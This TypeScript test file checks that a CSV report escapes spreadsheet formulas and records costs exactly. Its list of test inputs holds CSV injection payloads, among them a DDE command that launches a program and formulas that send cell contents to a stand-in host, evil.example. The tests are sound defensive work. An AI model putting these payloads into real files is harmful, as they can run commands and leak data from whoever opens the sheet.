import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { resultRecord } from '../../packages/report/src/page-rows';
import { CSV_HEADER, csvCell, csvCells } from '../../packages/report/src/tables';
import { makeResult } from './make-campaign';

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  "'=1",
  '＝1',
  '＋1',
  '－1',
  '＠A1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '@=1',
  '\u00a0=1',
  '\ufeff=1',
];

/** What a spreadsheet may evaluate, whatever it splits at. */
const isFormula = (cell: string): boolean => /^[\s\ufeff"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);

describe('csvCell', () => {
  test.each(FORMULAS)('%j is text', (value) => {
    const cell = csvCell(value);
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.endsWith(value.slice(-1))).toBe(true);
  });

  test.each(['shot-1', 'a-b', '2026-11-21T10:00:00Z', 'e=mc2', '', 'a b', 'user@example'])(
    '%j stays as it is',
    (value) => expect(csvCell(value)).toBe(value),
  );

  test('no cell is a formula, also where a spreadsheet splits at another character', () => {
    const character = fc.constantFrom(...`=+-@;|\t\r\n"' a1,＝＠\u00a0\ufeff`);
    fc.assert(
      fc.property(fc.string({ unit: character }), (value) => {
        for (const split of [/$^/, /;/, /\t/, /\||\r|\n/])
          for (const part of csvCell(value).split(split)) expect(isFormula(part)).toBe(false);
      }),
    );
  });
});

describe('results.csv', () => {
  test('a row comes back as it was, and nothing of it is a formula', () => {
    for (const formula of FORMULAS) {
      const result = makeResult(0, {
        key: formula,
        model: formula,
        account: formula,
        taskId: formula,
        outcome: 'rejected',
        reason: formula,
        message: `the prompt ${formula}`,
        warnings: [formula, `a;${formula}`],
        usage: formula,
        reported: { model: formula, resolution: formula, durationSeconds: 5 },
        requested: { durationSeconds: 4, resolution: formula, referenceMode: formula },
      });
      const cells = csvCells(resultRecord({ result }, 'USD'));
      const [read] = parse<{ [column: string]: string }>(stringify([CSV_HEADER, cells]), { columns: true });
      expect(Object.keys(read ?? {})).toEqual(CSV_HEADER);
      for (const cell of Object.values(read ?? {})) {
        expect(isFormula(cell)).toBe(false);
        expect(cell).not.toContain('the prompt');
      }
    }
  });

  test('money is exact, and an unknown price is no zero', () => {
    const ledger = [
      {
        attempt: 0,
        creationKey: 'a',
        taskId: 't',
        outcome: 'failed' as const,
        estimate: 123_456,
        actual: null,
        state: 'needs_review' as const,
      },
      {
        attempt: 1,
        creationKey: 'b',
        taskId: 'u',
        outcome: 'failed' as const,
        estimate: null,
        actual: null,
        state: 'settled' as const,
      },
      {
        attempt: 2,
        creationKey: 'c',
        taskId: null,
        outcome: 'rejected' as const,
        estimate: 9,
        actual: null,
        state: 'none' as const,
      },
      {
        attempt: 3,
        creationKey: 'd',
        taskId: 'v',
        outcome: 'completed' as const,
        estimate: 12_000_000,
        actual: 11_000_000,
        state: 'settled' as const,
      },
    ];
    const cells = csvCells(resultRecord({ result: makeResult(0, { ledger }) }, 'EUR'));
    const row = Object.fromEntries(CSV_HEADER.map((name, index) => [name, cells[index]]));
    expect(row).toMatchObject({
      currency: 'EUR',
      estimate: '12.123456',
      actual: '11.00',
      money_settled: '11.00',
      money_estimated: '0.00',
      money_reserved: '0.00',
      money_needs_review: '0.123456',
      attempts_of_unknown_price: '1',
      attempts: '4',
    });
  });
});
